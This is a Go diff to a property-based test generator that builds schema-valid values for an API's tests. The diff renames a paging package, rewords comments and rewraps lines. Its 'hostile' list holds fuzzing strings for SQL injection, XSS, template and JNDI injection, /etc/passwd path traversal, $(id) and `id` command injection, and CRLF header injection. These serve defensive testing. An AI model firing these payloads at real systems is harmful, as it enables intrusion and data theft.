@@ -12,13 +12,13 @@ import (
 	"github.com/google/uuid"
 	"pgregory.net/rapid"
 
-	"example.com/plumbline/impl/platform/keyset"
+	"example.com/plumbline/impl/platform/paging"
 )
 
-// known are the ids of things that there are, by the name of the property that refers to one, such as product_id.
+// known are the ids of existing things, by the name of the property that refers to one, such as product_id.
 type known map[string][]string
 
-// values generates values that a schema accepts. Where it refers to a thing by its id that is mostly one that there is.
+// values generates values that a schema accepts. References to things mostly name existing ones.
 func values(schema *openapi3.Schema, refer known) *rapid.Generator[any] {
 	var g *rapid.Generator[any]
 	switch {
@@ -37,7 +37,8 @@ func values(schema *openapi3.Schema, refer known) *rapid.Generator[any] {
 		most := int(min(*schema.MaxItems, 5))
 		least := int(schema.MinItems)
 		if schema.UniqueItems {
-			g = rapid.SliceOfNDistinct(item, least, min(most, max(1, len(schema.Items.Value.Enum))), func(v any) string { return fmt.Sprint(v) }).AsAny()
+			g = rapid.SliceOfNDistinct(item, least, min(most, max(1, len(schema.Items.Value.Enum))),
+				func(v any) string { return fmt.Sprint(v) }).AsAny()
 		} else {
 			g = rapid.SliceOfN(item, least, most).AsAny()
 		}
@@ -75,8 +76,8 @@ func objects(schema *openapi3.Schema, refer known) *rapid.Generator[map[string]a
 	})
 }
 
-// strs generates strings of a schema: of its format or pattern, or of any characters, as short and as long as they may
-// be, and those of the hostile ones that the schema takes.
+// strs generates strings of a schema: of its format or pattern, or of any characters, at and between the length bounds,
+// and the hostile ones that the schema accepts.
 func strs(schema *openapi3.Schema) *rapid.Generator[string] {
 	var g *rapid.Generator[string]
 	most := 200
@@ -93,19 +94,21 @@ func strs(schema *openapi3.Schema) *rapid.Generator[string] {
 	case schema.Format == "cursor":
 		g = rapid.Custom(func(t *rapid.T) string {
 			id := uuid.UUID(rapid.SliceOfN(rapid.Byte(), 16, 16).Draw(t, "bytes"))
-			return keyset.Encode(keyset.Position{Time: instants.Draw(t, "time"), ID: id})
+			return paging.Encode(paging.Position{Time: instants.Draw(t, "time"), ID: id})
 		})
 	case schema.Format == "date-time":
 		g = rapid.OneOf(
 			rapid.Custom(func(t *rapid.T) string { return instants.Draw(t, "time").Format(time.RFC3339Nano) }),
-			rapid.SampledFrom([]string{ // As other languages write times, and what else RFC 3339 allows.
-				"2026-11-23T09:30:00.123456+00:00", "2026-11-23T09:30:00.1234567+00:00", "2026-11-23T09:30:00." + strings.Repeat("9", 30) + "-00:00",
+			rapid.SampledFrom([]string{ // Other spellings that RFC 3339 allows.
+				"2026-11-23T09:30:00.123456+00:00", "2026-11-23T09:30:00.1234567+00:00",
+				"2026-11-23T09:30:00." + strings.Repeat("9", 30) + "-00:00",
 				"2026-11-23t09:30:00z", "2016-12-31T23:59:60Z", "1990-12-31t15:59:60.5-08:00",
 			}),
 		)
 	case schema.Format == "email":
 		g = rapid.Custom(func(t *rapid.T) string {
-			return word.Draw(t, "local") + "@" + word.Draw(t, "domain") + rapid.SampledFrom([]string{".example.com", ".b\u00fccher.example", ".bu\u0308cher.example"}).Draw(t, "domains")
+			return word.Draw(t, "local") + "@" + word.Draw(t, "domain") +
+				rapid.SampledFrom([]string{".example.com", ".b\u00fccher.example", ".bu\u0308cher.example"}).Draw(t, "domains")
 		})
 	case schema.Format == "https-url":
 		g = rapid.Custom(func(t *rapid.T) string {
@@ -114,9 +117,11 @@ func strs(schema *openapi3.Schema) *rapid.Generator[string] {
 	case schema.Format == "currency":
 		g = rapid.SampledFrom([]string{"EUR", "JPY", "KWD"})
 	case schema.Format == "time-code":
-		g = rapid.SampledFrom([]string{"000000", "123 456", "\u0661\u0662\u0663\u0664\u0665\u0666", "\uff11\uff12\uff13-\uff14\uff15\uff16"})
+		g = rapid.SampledFrom([]string{"000000", "123 456", "\u0661\u0662\u0663\u0664\u0665\u0666",
+			"\uff11\uff12\uff13-\uff14\uff15\uff16"})
 	case schema.Format == "recovery-code":
-		g = rapid.SampledFrom([]string{"MFZW-I3LP-OBQX-E2LK", "mfzwi3lpobqxe2lk", "mfzw i3lp obqx e2lk", "MFZW\u2013I3LP\u2013OBQX\u2013E2LK"})
+		g = rapid.SampledFrom([]string{"MFZW-I3LP-OBQX-E2LK", "mfzwi3lpobqxe2lk", "mfzw i3lp obqx e2lk",
+			"MFZW\u2013I3LP\u2013OBQX\u2013E2LK"})
 	case schema.Format == "password":
 		g = rapid.StringOfN(letter, 40, 128, -1)
 	case schema.Format == "phone":
@@ -125,7 +130,8 @@ func strs(schema *openapi3.Schema) *rapid.Generator[string] {
 		g = rapid.OneOf(rapid.StringMatching(schema.Pattern), rapid.Just(fmt.Sprint(schema.Example)))
 	default:
 		g = rapid.OneOf(
-			rapid.StringOfN(letter, int(schema.MinLength), most, -1), rapid.StringOfN(letter, int(schema.MinLength), int(schema.MinLength), -1),
+			rapid.StringOfN(letter, int(schema.MinLength), most, -1),
+			rapid.StringOfN(letter, int(schema.MinLength), int(schema.MinLength), -1),
 			rapid.StringOfN(letter, most, most, -1), hostile,
 		)
 	}
@@ -135,17 +141,24 @@ func strs(schema *openapi3.Schema) *rapid.Generator[string] {
 	return g.Filter(func(s string) bool { return accepts(schema, s) })
 }
 
-// instants are times that PostgreSQL and RFC 3339 both know.
-var instants = rapid.Map(rapid.Int64Range(time.Date(1, 1, 2, 0, 0, 0, 0, time.UTC).Unix(), time.Date(9999, 12, 30, 0, 0, 0, 0, time.UTC).Unix()),
+// instants are times within the range of both PostgreSQL and RFC 3339.
+var instants = rapid.Map(rapid.Int64Range(time.Date(1, 1, 2, 0, 0, 0, 0, time.UTC).Unix(),
+	time.Date(9999, 12, 30, 0, 0, 0, 0, time.UTC).Unix()),
 	func(seconds int64) time.Time { return time.Unix(seconds, 0).UTC() })
 
-// hostile generates text that has broken programs: what other languages than JSON take for their own, what changes its
-// length or its case, what cannot be seen, and any text at all. JSON can say all of it, and PostgreSQL can hold it.
+// hostile generates text that has broken programs: text with a meaning in other languages than JSON, text that changes
+// its length or case, invisible characters, and any text at all. All of it can be written in JSON and stored in
+// PostgreSQL.
 var hostile = rapid.OneOf(rapid.SampledFrom([]string{
-	"' OR '1'='1", "'; DROP TABLE orders; --", `\`, `\'`, "%", "_", "100%_", "$1", "NULL", "null", "undefined", "true", "NaN", "-1", "1e309", "0x10",
-	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "&lt;b&gt;", "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://example.com/a}",
+	"' OR '1'='1", "'; DROP TABLE orders; --", `\`, `\'`, "%", "_", "100%_", "$1", "NULL", "null", "undefined", "true",
+	"NaN", "-1", "1e309", "0x10",
+	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "&lt;b&gt;", "javascript:alert(1)", "{{7*7}}", "${7*7}",
+	"#{7*7}", "${jndi:ldap://example.com/a}",
 	"../../etc/passwd", "/etc/passwd", "$(id)", "`id`", "| id", "a; id", "=1+1", "@SUM(1)", "+1", "-1+1",
-	"\r\nSet-Cookie: a=b", "a\nb", "a\tb", "\u0001", "\u007f", "\u0085", "\u2028", "\u2029", "\ufeff", "\u200b", "\u00a0", " a", "a ",
-	"\u202ecba", "\u2066a", "e\u0301", "\u00e9", "\u0130", "\u0131", "\u00df", "\u1e9e", "\ufb01", "\u01c5", "\u0344", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea",
-	"\ufffd", "\uffff", "\ue000", "\U0010ffff", "\u05d0\u0628", "__proto__", "constructor", "[]", "{}", `{"a":1}`, "%00", "%2e%2e%2f", "\\u0000",
+	"\r\nSet-Cookie: a=b", "a\nb", "a\tb", "\u0001", "\u007f", "\u0085", "\u2028", "\u2029", "\ufeff", "\u200b",
+	"\u00a0", " a", "a ",
+	"\u202ecba", "\u2066a", "e\u0301", "\u00e9", "\u0130", "\u0131", "\u00df", "\u1e9e", "\ufb01", "\u01c5", "\u0344",
+	"\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea",
+	"\ufffd", "\uffff", "\ue000", "\U0010ffff", "\u05d0\u0628", "__proto__", "constructor", "[]", "{}", `{"a":1}`, "%00",
+	"%2e%2e%2f", "\\u0000",
 }), rapid.String()).Filter(func(s string) bool { return utf8.ValidString(s) && !strings.ContainsRune(s, 0) })
